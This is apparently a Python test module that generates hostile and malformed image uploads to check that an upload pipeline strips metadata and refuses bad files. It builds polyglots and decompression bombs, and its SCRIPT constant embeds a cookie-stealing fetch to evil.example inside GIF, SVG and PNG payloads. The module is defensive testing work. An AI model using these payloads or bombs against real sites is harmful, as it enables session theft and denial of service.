"""Hostile and broken uploads, made in code at test time (no binary files in the repository).

Each `Case` says what the pipeline must do with its file: accept it as a clean re-encoded
picture (in `stored_format`, with none of `secrets` left in the stored bytes) or refuse it with
a message containing `message`. The big files are made once per test process (`Case.content`
is cached), so the page and the API tests share them.
"""

import functools
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pillow_heif
from PIL import ExifTags, Image, ImageDraw

from tests.images import (
    PNG_SIGNATURE,
    grey_icc_profile,
    png_chunk,
    png_from_rows,
    png_header,
)

MB = 1024 * 1024
OWNER_NOTE = b"Owner: Jane Doe, home 48.85N 2.29E"
SCRIPT = b"<script>fetch('https://evil.example/?c='+document.cookie)</script>"

NOT_ACCEPTED = "not an image we accept"
DAMAGED = "damaged or incomplete"
EMPTY = "The submitted file is empty"  # Django's FileField and DRF's say the same


@dataclass(frozen=True)
class Case:
    name: str
    make: Callable[[], bytes]
    filename: str
    content_type: str
    stored_format: str = ""  # "JPEG", "PNG" or "WEBP" when accepted
    message: str = ""  # part of the refusal message when refused
    secrets: tuple[bytes, ...] = ()  # must not appear anywhere in the stored files
    pixel: tuple[int, ...] | None = None  # expected colour at (0, 0) of the stored picture

    @property
    def accepted(self) -> bool:
        return bool(self.stored_format)

    def content(self) -> bytes:
        return _made(self.make)


@functools.cache
def _made(make: Callable[[], bytes]) -> bytes:
    return make()


def _saved(image: Image.Image, fmt: str, **options) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, fmt, **options)
    return buffer.getvalue()


def _noise(size: tuple[int, int], seed: int = 1, mode: str = "RGB") -> Image.Image:
    channels = len(mode)
    return Image.frombytes(mode, size, random.Random(seed).randbytes(size[0] * size[1] * channels))


def _photo(size: tuple[int, int] = (400, 300)) -> Image.Image:
    """Something photo-like: gradients with grain, so JPEG has real scan data to cut."""
    grey = Image.linear_gradient("L").resize(size)
    grain = _noise(size, mode="L")
    return Image.merge("RGB", (grey, grey.transpose(Image.Transpose.FLIP_LEFT_RIGHT), grain))


def _gps_exif() -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PhoneMaker"
    exif[ExifTags.Base.Model] = "SecretPhone 12"
    exif[ExifTags.Base.Artist] = "Jane Doe"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (48.0, 51.0, 29.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (2.0, 17.0, 40.0)
    return exif


XMP = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-'
    b'syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="Jane '
    b'Doe XMP"/></rdf:RDF></x:xmpmeta>'
)


# GIF -----------------------------------------------------------------------------------------


def _gif_parts(gif: bytes) -> tuple[bytes, bytes]:
    """Split a one-frame GIF from Pillow into (header with colour table, the frame)."""
    flags = gif[10]
    table = 3 * 2 ** ((flags & 7) + 1) if flags & 0x80 else 0
    header_end = 13 + table
    assert gif.endswith(b";")
    return gif[:header_end], gif[header_end:-1]


def _sub_blocks(payload: bytes) -> bytes:
    blocks = b"".join(
        bytes([len(payload[i : i + 255])]) + payload[i : i + 255]
        for i in range(0, len(payload), 255)
    )
    return blocks + b"\0"


def gif_html_polyglot() -> bytes:
    """A GIF that is also an HTML page: script in a comment, an XMP block and after the end."""
    gif = _saved(Image.new("P", (40, 30), 0), "GIF", comment=b"<html><body>" + SCRIPT)
    header, frame = _gif_parts(gif)
    xmp_extension = b"\x21\xff\x0bXMP DataXMP" + _sub_blocks(XMP)
    return header + xmp_extension + frame + b";" + b"<html><body>" + SCRIPT + b"</body></html>"


def gif_thousands_of_frames() -> bytes:
    """5,000 frames copied by hand: Pillow would take seconds to write them one by one."""
    header, frame = _gif_parts(_saved(Image.new("P", (32, 32), 0), "GIF"))
    control = b"\x21\xf9\x04\x00\x01\x00\x00\x00"  # graphic control: 10 ms per frame
    loop = b"\x21\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"
    return header + loop + (control + frame) * 5000 + b";"


# PNG -----------------------------------------------------------------------------------------


def _small_png(extra_chunks: bytes = b"", after_idat: bytes = b"") -> bytes:
    png = png_from_rows(png_header(48, 32), b"\0" + bytes((30, 90, 200)) * 48, 32, extra_chunks)
    return png[:-12] + after_idat + png[-12:]  # before IEND


def png_iccp_bomb() -> bytes:
    """An iCCP chunk of 64 kB that inflates to 64 MB."""
    return _small_png(png_chunk(b"iCCP", b"evil\0\0" + zlib.compress(bytes(64 * MB), 9)))


def png_iccp_huge() -> bytes:
    """An 8 MB iCCP chunk of junk that is not even a zlib stream."""
    junk = random.Random(2).randbytes(8 * MB)
    return _small_png(png_chunk(b"iCCP", b"Jane Doe's profile\0\0" + junk))


def png_huge_text() -> bytes:
    """9 MB of tEXt and iTXt, before and after the pixels, saying who and where."""
    text = OWNER_NOTE + b" " + b"x" * (100_000 - len(OWNER_NOTE) - 1)
    before = b"".join(png_chunk(b"tEXt", b"Comment%d\0" % n + text) for n in range(60))
    itxt = png_chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + XMP)
    after = b"".join(png_chunk(b"tEXt", b"Later%d\0" % n + text) for n in range(30))
    return _small_png(before + itxt, after_idat=after)


def png_ztxt_bomb() -> bytes:
    """A zTXt chunk that inflates to 100 MB of text."""
    return _small_png(png_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(100 * MB), 9)))


def png_metadata() -> bytes:
    """EXIF, XMP, text, a timestamp and a physical size: everything a PNG can carry."""
    exif = _gps_exif().tobytes()
    chunks = (
        png_chunk(b"eXIf", exif)
        + png_chunk(b"tEXt", b"Author\0" + OWNER_NOTE)
        + png_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(OWNER_NOTE))
        + png_chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + XMP)
        + png_chunk(b"tIME", struct.pack(">HBBBBB", 2024, 5, 17, 9, 30, 0))
        + png_chunk(b"pHYs", struct.pack(">IIB", 2835, 2835, 1))
        + png_chunk(b"gAMA", struct.pack(">I", 45455))
    )
    return _small_png(chunks, after_idat=png_chunk(b"tEXt", b"Later\0" + SCRIPT))


def png_after_iend() -> bytes:
    return _small_png() + b"<html><body>" + SCRIPT + b"</body></html>"


def png_greyscale_with_profile() -> bytes:
    """A mid-grey picture in linear light: 128 here is about 188 in sRGB."""
    return _saved(Image.new("L", (40, 30), 128), "PNG", icc_profile=grey_icc_profile())


def png_16_bit_rgb() -> bytes:
    # 0x1234 0x8080 0xFFFF: 8-bit 18, 128, 255.
    row = b"\0" + bytes((0x12, 0x34, 0x80, 0x80, 0xFF, 0xFF)) * 40
    return png_from_rows(png_header(40, 30, bit_depth=16, color_type=2), row, 30)


def png_16_bit_grey() -> bytes:
    # 0x8080 is the 16-bit twin of 8-bit 128.
    row = b"\0" + b"\x80\x80" * 40
    return png_from_rows(png_header(40, 30, bit_depth=16, color_type=0), row, 30)


def png_64k_bomb() -> bytes:
    """A header claiming 65,536 × 65,536 (4.3 gigapixels) over a few hundred bytes of data."""
    return (
        PNG_SIGNATURE
        + png_header(65536, 65536)
        + png_chunk(b"IDAT", zlib.compress(bytes(100_000)))
        + png_chunk(b"IEND", b"")
    )


def png_strip() -> bytes:
    return _saved(Image.new("L", (1, 60000), 77), "PNG")


def png_bad_header_crc() -> bytes:
    png = _small_png()
    return png[:29] + bytes(4) + png[33:]  # the IHDR checksum, zeroed


def png_bad_data_crc() -> bytes:
    png = _small_png()
    return png[:-16] + bytes(4) + png[-12:]  # the IDAT checksum, zeroed


def apng() -> bytes:
    frames = [Image.new("RGB", (40, 30), color) for color in ((200, 30, 30), (30, 30, 200))]
    return _saved(frames[0], "PNG", save_all=True, append_images=frames[1:], duration=100)


# JPEG ----------------------------------------------------------------------------------------


def jpeg_photo() -> bytes:
    return _saved(_photo(), "JPEG", quality=90)


def jpeg_truncated() -> bytes:
    content = jpeg_photo()
    return content[: len(content) * 6 // 10]


def jpeg_corrupt() -> bytes:
    """The Huffman tables overwritten with junk: the header parses, the scan cannot."""
    content = bytearray(jpeg_photo())
    start = content.index(b"\xff\xc4") + 4
    content[start : start + 60] = b"\xff" * 60
    return bytes(content)


def jpeg_cmyk() -> bytes:
    return _saved(Image.new("CMYK", (40, 30), (0, 255, 255, 0)), "JPEG")  # pure red


def jpeg_exif_gps() -> bytes:
    return _saved(Image.new("RGB", (60, 40), (0, 85, 191)), "JPEG", exif=_gps_exif(), xmp=XMP)


def jpeg_comment() -> bytes:
    return _saved(Image.new("RGB", (60, 40), (0, 85, 191)), "JPEG", comment=OWNER_NOTE)


def jpeg_zip_polyglot() -> bytes:
    """A JPEG with a zip after its end marker: opens as either."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("jane-doe-passwords.txt", "hunter2")
    return jpeg_comment() + archive.getvalue()


def just_over_ten_mb() -> bytes:
    content = jpeg_photo()
    return content + bytes(10 * MB + 1 - len(content))


# Other formats -------------------------------------------------------------------------------


def heic_phone_photo() -> bytes:
    pillow_heif.register_heif_opener()
    return _saved(
        Image.new("RGB", (320, 240), (242, 205, 55)), "HEIF", quality=80, exif=_gps_exif(), xmp=XMP
    )


def webp_metadata() -> bytes:
    return _saved(
        Image.new("RGB", (60, 40), (0, 85, 191)),
        "WEBP",
        exif=_gps_exif(),
        xmp=XMP,
        icc_profile=grey_icc_profile(description="Jane Doe's screen"),
    )


def tiled_noise_webp(size: tuple[int, int]) -> bytes:
    """One 64 × 64 noise tile repeated: lossless WebP packs it small, no lossy format can."""
    tile = _noise((64, 64))
    picture = Image.new("RGB", size)
    for top in range(0, size[1], 64):
        for left in range(0, size[0], 64):
            picture.paste(tile, (left, top))
    return _saved(picture, "WEBP", lossless=True, quality=0, method=0)


def webp_40_megapixels_lossless() -> bytes:
    """8000 × 5000 in about 1 MB: 29 MB as WebP re-encoded at full size, 5.8 MB scaled down."""
    return tiled_noise_webp((8000, 5000))


def webp_40_megapixels_plain() -> bytes:
    """8000 × 5000 of flat bricks on a yellow plate: about 1 MB lossless, small lossy too."""
    picture = Image.new("RGB", (8000, 5000), (242, 205, 55))
    draw = ImageDraw.Draw(picture)
    for left in range(0, 8000, 500):
        for top in range(0, 5000, 500):
            draw.rectangle((left + 50, top + 50, left + 450, top + 450), (left % 256, 40, 120))
    return _saved(picture, "WEBP", lossless=True, quality=0, method=0)


def svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="40" height="30">'
        b'<rect width="40" height="30" fill="red"/>' + SCRIPT + b"</svg>"
    )


def html_page() -> bytes:
    return b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"


def zip_archive() -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("photo.jpg", jpeg_photo())
    return archive.getvalue()


def tiff_photo() -> bytes:
    return _saved(Image.new("RGB", (60, 40), (0, 85, 191)), "TIFF", exif=_gps_exif())


def bmp_photo() -> bytes:
    return _saved(Image.new("RGB", (60, 40), (0, 85, 191)), "BMP")


def empty() -> bytes:
    return b""


PRIVATE = (b"Jane Doe", b"PhoneMaker", b"SecretPhone", b"48.85N", b"xmpmeta")

CORPUS = [
    Case(
        "gif html polyglot",
        gif_html_polyglot,
        "cat.gif",
        "image/gif",
        stored_format="PNG",
        secrets=(b"<script", b"<html", b"xmpmeta"),
    ),
    Case("svg with script", svg_with_script, "logo.svg", "image/svg+xml", message=NOT_ACCEPTED),
    Case("html renamed png", html_page, "photo.png", "image/png", message=NOT_ACCEPTED),
    Case("png iccp bomb", png_iccp_bomb, "bomb.png", "image/png", message=DAMAGED),
    Case(
        "png 8 MB iccp of junk",
        png_iccp_huge,
        "huge-profile.png",
        "image/png",
        stored_format="PNG",
        secrets=(b"Jane Doe",),
        pixel=(30, 90, 200),
    ),
    Case(
        "png 9 MB of text chunks",
        png_huge_text,
        "text.png",
        "image/png",
        stored_format="PNG",
        secrets=PRIVATE,
        pixel=(30, 90, 200),
    ),
    Case("png ztxt bomb", png_ztxt_bomb, "ztxt.png", "image/png", message=DAMAGED),
    Case(
        "png with exif xmp text and time",
        png_metadata,
        "meta.png",
        "image/png",
        stored_format="PNG",
        secrets=(*PRIVATE, b"<script"),
    ),
    Case(
        "png with html after iend",
        png_after_iend,
        "after.png",
        "image/png",
        stored_format="PNG",
        secrets=(b"<script", b"<html"),
    ),
    Case(
        "greyscale png with a linear profile",
        png_greyscale_with_profile,
        "grey.png",
        "image/png",
        stored_format="PNG",
        secrets=(b"Linear grey",),
        pixel=(188,),
    ),
    Case(
        "gif with 5000 frames",
        gif_thousands_of_frames,
        "anim.gif",
        "image/gif",
        stored_format="PNG",
    ),
    Case("png strip 1 x 60000", png_strip, "strip.png", "image/png", stored_format="PNG"),
    Case("png claiming 64k x 64k", png_64k_bomb, "bomb.png", "image/png", message="megapixels"),
    Case("truncated jpeg", jpeg_truncated, "cut.jpg", "image/jpeg", message=DAMAGED),
    Case("corrupt jpeg", jpeg_corrupt, "corrupt.jpg", "image/jpeg", message=DAMAGED),
    Case(
        "cmyk jpeg",
        jpeg_cmyk,
        "print.jpg",
        "image/jpeg",
        stored_format="JPEG",
        pixel=(254, 0, 0),
    ),
    Case(
        "16-bit rgb png",
        png_16_bit_rgb,
        "deep.png",
        "image/png",
        stored_format="PNG",
        pixel=(18, 128, 255),
    ),
    Case(
        "16-bit greyscale png",
        png_16_bit_grey,
        "deep-grey.png",
        "image/png",
        stored_format="PNG",
        pixel=(128,),
    ),
    Case(
        "phone heic with gps",
        heic_phone_photo,
        "IMG_0001.HEIC",
        "image/heic",
        stored_format="JPEG",
        secrets=PRIVATE,
        pixel=(242, 205, 55),
    ),
    Case("tiff", tiff_photo, "scan.tiff", "image/tiff", message=NOT_ACCEPTED),
    Case("bmp", bmp_photo, "paint.bmp", "image/bmp", message=NOT_ACCEPTED),
    Case(
        "jpeg with exif gps and xmp",
        jpeg_exif_gps,
        "gps.jpg",
        "image/jpeg",
        stored_format="JPEG",
        secrets=PRIVATE,
        pixel=(0, 85, 191),
    ),
    Case(
        "jpeg with a comment",
        jpeg_comment,
        "comment.jpg",
        "image/jpeg",
        stored_format="JPEG",
        secrets=PRIVATE,
        pixel=(0, 85, 191),
    ),
    Case(
        "jpeg with a zip appended",
        jpeg_zip_polyglot,
        "polyglot.jpg",
        "image/jpeg",
        stored_format="JPEG",
        secrets=(*PRIVATE, b"PK\x03\x04", b"passwords"),
    ),
    Case(
        "webp with exif xmp and profile",
        webp_metadata,
        "meta.webp",
        "image/webp",
        stored_format="WEBP",
        secrets=PRIVATE,
    ),
    Case("zip renamed jpg", zip_archive, "photo.jpg", "image/jpeg", message=NOT_ACCEPTED),
    Case("empty file", empty, "empty.jpg", "image/jpeg", message=EMPTY),
    Case(
        "webp 40 MP lossless plain",
        webp_40_megapixels_plain,
        "plate.webp",
        "image/webp",
        stored_format="WEBP",
        pixel=(242, 205, 55),
    ),
    Case(
        "webp 40 MP lossless noise tiles",
        webp_40_megapixels_lossless,
        "huge.webp",
        "image/webp",
        stored_format="WEBP",
    ),
    Case("just over 10 MB", just_over_ten_mb, "big.jpg", "image/jpeg", message="too large"),
    Case("png wrong header crc", png_bad_header_crc, "crc.png", "image/png", message=DAMAGED),
    Case(
        "png wrong data crc",
        png_bad_data_crc,
        "crc2.png",
        "image/png",
        stored_format="PNG",
        pixel=(30, 90, 200),
    ),
    Case(
        "apng",
        apng,
        "anim.png",
        "image/png",
        stored_format="PNG",
        pixel=(200, 30, 30),
    ),
]
